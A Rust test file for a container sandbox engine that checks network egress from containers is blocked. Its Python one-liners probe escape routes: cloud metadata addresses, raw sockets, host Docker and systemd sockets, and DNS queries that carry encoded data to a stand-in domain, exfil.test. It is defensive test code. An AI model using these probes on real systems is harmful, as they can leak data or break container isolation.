//! Every way out of a container that is not TCP to the relay or a look-up at the responder: the kernel has none. Each
//! is tried as the job user and as the container's root, under an engine with and without privileges.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

mod common;

use common::{ExecOutput, Mode, TestEngine, modes};
use std::collections::BTreeSet;
use std::net::{IpAddr, TcpListener, UdpSocket};
use std::os::unix::net::UnixListener;
use std::time::{Duration, Instant};

fn everywhere(check: impl Fn(&TestEngine, &str)) {
    for mode in modes() {
        let engine = TestEngine::start(mode);
        engine.boot("box");
        let users: &[&str] = match mode {
            Mode::Root => &["sandbox", "root"],
            Mode::Unprivileged => &["root"],
        };
        for user in users {
            check(&engine, user);
        }
    }
}

fn python(engine: &TestEngine, user: &str, body: &str) -> ExecOutput {
    engine.sh("box", user, &format!("python3 - <<'EOF'\nfrom socket import *\nimport os, sys\n{body}\nEOF"))
}

/// The kernel said no: nothing was sent, or nobody answered.
fn no_way(engine: &TestEngine, user: &str, body: &str) {
    let begun = Instant::now();
    let done = python(engine, user, body);
    assert_ne!(done.code, 0, "{:?}, {user}: possible: {body}: {done:?}", engine.mode);
    assert!(done.stderr.contains("Error"), "{body}: {done:?}");
    assert!(begun.elapsed() < Duration::from_secs(5), "{body}: a refusal is quick");
}

#[test]
fn datagrams_reach_nobody_but_the_responder() {
    everywhere(|engine, user| {
        let udp = "s = socket(AF_INET, SOCK_DGRAM); s.settimeout(2)";
        for body in [
            format!("{udp}; s.sendto(b'x', ('192.0.2.1', 123)); s.recv(1)"),
            format!("{udp}; s.connect(('192.0.2.1', 443)); s.send(b'x'); s.recv(1)"),
            format!("{udp}; s.sendto(b'x', ('169.254.169.254', 80)); s.recv(1)"),
            format!("{udp}; s.sendto(b'x', ('224.0.0.251', 5353)); s.recv(1)"),
            format!("{udp}; s.setsockopt(SOL_SOCKET, SO_BROADCAST, 1); s.sendto(b'x', ('255.255.255.255', 67)); s.recv(1)"),
            // The source port makes no difference.
            format!("{udp}; s.bind(('0.0.0.0', 5353)); s.sendto(b'x', ('192.0.2.1', 54)); s.recv(1)"),
            "s = socket(AF_INET, SOCK_DGRAM, 136); s.settimeout(2); s.sendto(b'x', ('192.0.2.1', 53)); s.recv(1)".to_owned(),
        ] {
            no_way(engine, user, &body);
        }
    });
}

#[test]
fn icmp_and_every_other_protocol_have_no_socket_or_no_route() {
    everywhere(|engine, user| {
        for body in [
            // An echo request by the ping socket, where there is one.
            "s = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP); s.settimeout(2); s.sendto(bytes([8,0,0xf7,0xff,0,0,0,0]), ('192.0.2.1', 0)); s.recv(99)",
            "s = socket(AF_INET6, SOCK_DGRAM, IPPROTO_ICMPV6); s.settimeout(2); s.sendto(bytes([128,0,0,0,0,0,0,0]), ('2001:db8::1', 0)); s.recv(99)",
            "socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)",
            "socket(AF_INET, SOCK_RAW, IPPROTO_TCP)",
            "socket(AF_INET, SOCK_RAW, IPPROTO_RAW)",
            "socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6)",
            "s = socket(AF_INET, SOCK_STREAM, 132); s.settimeout(2); s.connect(('192.0.2.1', 80))",
            "s = socket(AF_INET, 6, 33); s.settimeout(2); s.connect(('192.0.2.1', 80))",
            "socket(AF_PACKET, SOCK_RAW)",
            "socket(AF_PACKET, SOCK_DGRAM, 8)",
            "socket(15, SOCK_RAW, 2)",
            "socket(29, SOCK_RAW, 1)",
            "socket(30, SOCK_STREAM)",
            "socket(31, SOCK_RAW, 1)",
            "socket(38, SOCK_SEQPACKET)",
            "socket(40, SOCK_STREAM)",
            "socket(44, SOCK_RAW)",
        ] {
            no_way(engine, user, body);
        }
    });
}

#[test]
fn ipv6_leads_nowhere_in_any_of_its_forms() {
    everywhere(|engine, user| {
        for body in [
            "create_connection(('2001:db8::1', 80), 2)",
            "create_connection(('2001:db8::1', 443), 2)",
            "s = socket(AF_INET6); s.settimeout(2); s.connect(('fe80::1', 80, 0, 1))",
            "s = socket(AF_INET6); s.settimeout(2); s.connect(('fd00:ec2::254', 80))",
            "s = socket(AF_INET6); s.settimeout(2); s.connect(('64:ff9b::a9fe:a9fe', 80))",
            "s = socket(AF_INET6, SOCK_DGRAM); s.settimeout(2); s.sendto(b'x', ('2001:db8::1', 53)); s.recv(1)",
            "s = socket(AF_INET6, SOCK_DGRAM); s.settimeout(2); s.sendto(b'x', ('ff02::fb', 5353, 0, 1)); s.recv(1)",
            "s = socket(AF_INET6, SOCK_DGRAM); s.settimeout(2); s.sendto(b'x', ('::ffff:192.0.2.1', 123)); s.recv(1)",
        ] {
            no_way(engine, user, body);
        }
        // IPv4 in IPv6's clothes is IPv4: it ends at the relay, which knows of no Worker here.
        let mapped = "s = socket(AF_INET6); s.settimeout(5); s.connect(('::ffff:192.0.2.7', 80)); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); assert s.recv(1)";
        assert_ne!(python(engine, user, mapped).code, 0);
        let denials = engine.denials("box");
        assert!(
            denials.iter().any(|d| d["host"] == "192.0.2.7" && d["reason"] == "no-egress"),
            "{denials:?}"
        );
    });
}

/// The addresses of the machine itself, but for loopback.
fn own_addresses() -> Vec<IpAddr> {
    // No datagram is sent: it only asks the kernel which address it would use.
    let own = |to: &str| {
        let socket = UdpSocket::bind("0.0.0.0:0").ok()?;
        socket.connect(to).ok()?;
        Some(socket.local_addr().ok()?.ip())
    };
    own("192.0.2.1:9").into_iter().filter(|address| !address.is_loopback()).collect()
}

#[test]
fn servers_of_the_host_are_not_reached_by_any_of_its_addresses() {
    let tcp = TcpListener::bind("0.0.0.0:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let udp = UdpSocket::bind("0.0.0.0:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let (tcp_port, udp_port) = (tcp.local_addr().unwrap().port(), udp.local_addr().unwrap().port());
    let addresses: Vec<IpAddr> = own_addresses()
        .into_iter()
        .chain(["127.0.0.1".parse().unwrap(), "0.0.0.0".parse().unwrap()])
        .collect();
    everywhere(|engine, user| {
        for address in &addresses {
            let body = format!(
                "s = create_connection(('{address}', {tcp_port}), 5); s.sendall(b'\\0'); assert s.recv(1)"
            );
            assert_ne!(python(engine, user, &body).code, 0, "{address}");
            let body = format!(
                "s = socket(AF_INET, SOCK_DGRAM); s.settimeout(1); s.sendto(b'x', ('{address}', {udp_port})); s.recv(1)"
            );
            no_way(engine, user, &body);
        }
    });
    assert!(tcp.accept().is_err(), "nobody came");
    assert!(udp.recv(&mut [0]).is_err(), "nothing came");
}

#[test]
fn unix_sockets_of_the_host_have_no_path_inside() {
    let name = format!("ringfence-ways-out-{}", std::process::id());
    let path = std::env::temp_dir().join(&name);
    let listener = UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    std::os::unix::net::UnixStream::connect(&path).unwrap();
    listener.accept().unwrap();
    everywhere(|engine, user| {
        let paths = [path.display().to_string(), format!("/proc/1/root{}", path.display())];
        let engine_sockets =
            ["docker.sock", "control.sock"].map(|s| engine.directory.join(s).display().to_string());
        let known =
            ["/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"].map(str::to_owned);
        for path in paths.into_iter().chain(engine_sockets).chain(known) {
            no_way(engine, user, &format!("s = socket(AF_UNIX); s.connect('{path}')"));
        }
        // A link out is read inside: it leads to nothing.
        no_way(
            engine,
            user,
            &format!(
                "p = '/tmp/link-{user}'; os.path.lexists(p) or os.symlink('{}', p); socket(AF_UNIX).connect(p)",
                path.display()
            ),
        );
    });
    assert!(listener.accept().is_err(), "nobody came");
    std::fs::remove_file(path).unwrap();
}

#[test]
fn the_relays_own_port_is_no_way_in_or_out() {
    everywhere(|engine, user| {
        for body in [
            "s = create_connection(('127.0.0.1', 1), 5); s.sendall(b'GET / HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n'); assert s.recv(1)",
            "socket().bind(('127.0.0.1', 1))",
            "s = socket(); s.setsockopt(SOL_SOCKET, SO_REUSEPORT, 1); s.bind(('127.0.0.1', 1))",
            "socket(AF_INET, SOCK_DGRAM).bind(('127.0.0.1', 1))",
        ] {
            assert_ne!(python(engine, user, body).code, 0, "{body}");
        }
        assert_eq!(engine.denials("box").iter().filter(|d| d["host"] == "127.0.0.1").count(), 0);
    });
}

/// A look-up that carries data reaches no resolver: while it is answered the engine has no UDP socket in the host's
/// network, and no TCP connection of its own there.
#[test]
fn a_query_that_carries_data_is_answered_by_the_engine_alone() {
    everywhere(|engine, user| {
        let before = host_sockets(engine);
        let body = "import struct\n\
            def query(kind, name):\n\
            \x20 return struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b''.join(bytes([len(p)]) + p for p in name.split(b'.')) + b'\\0' + struct.pack('>2H', kind, 1)\n\
            s = socket(AF_INET, SOCK_DGRAM); s.settimeout(5)\n\
            for kind in (1, 28, 16, 15, 5, 2, 33, 255, 65):\n\
            \x20 for resolver in ('192.0.2.53', '8.8.8.8', '10.255.0.1'):\n\
            \x20   s.sendto(query(kind, b'c2VjcmV0LWRhdGE.' + b'x' * 60 + b'.exfil.test'), (resolver, 53)); assert s.recv(4096)[:2] == b'\\0\\7'\n\
            print('answered')";
        let done = python(engine, user, body);
        assert_eq!(done.stdout, "answered\n", "{done:?}");
        assert_eq!(host_sockets(engine), before, "the engine opened a socket on the host to answer");
        let recorded = engine.denials("box");
        assert!(recorded.iter().any(|d| d["attempt"] == "lookup"), "{recorded:?}");
    });
}

/// The engine's UDP sockets, and its TCP connections that are not to loopback, in the host's network namespace.
fn host_sockets(engine: &TestEngine) -> BTreeSet<String> {
    let held: BTreeSet<String> = std::fs::read_dir(format!("/proc/{}/fd", engine.process.id()))
        .unwrap()
        .filter_map(|entry| std::fs::read_link(entry.ok()?.path()).ok())
        .filter_map(|link| Some(link.to_str()?.strip_prefix("socket:[")?.trim_end_matches(']').to_owned()))
        .collect();
    let mut found = BTreeSet::new();
    for table in ["udp", "udp6", "tcp", "tcp6"] {
        let text = std::fs::read_to_string(format!("/proc/net/{table}")).unwrap_or_default();
        for line in text.lines().skip(1) {
            let fields: Vec<&str> = line.split_whitespace().collect();
            let loopback = fields[1].starts_with("0100007F");
            if held.contains(fields[9]) && !(table == "tcp" && loopback) {
                found.insert(format!("{table} {} {}", fields[1], fields[2]));
            }
        }
    }
    found
}
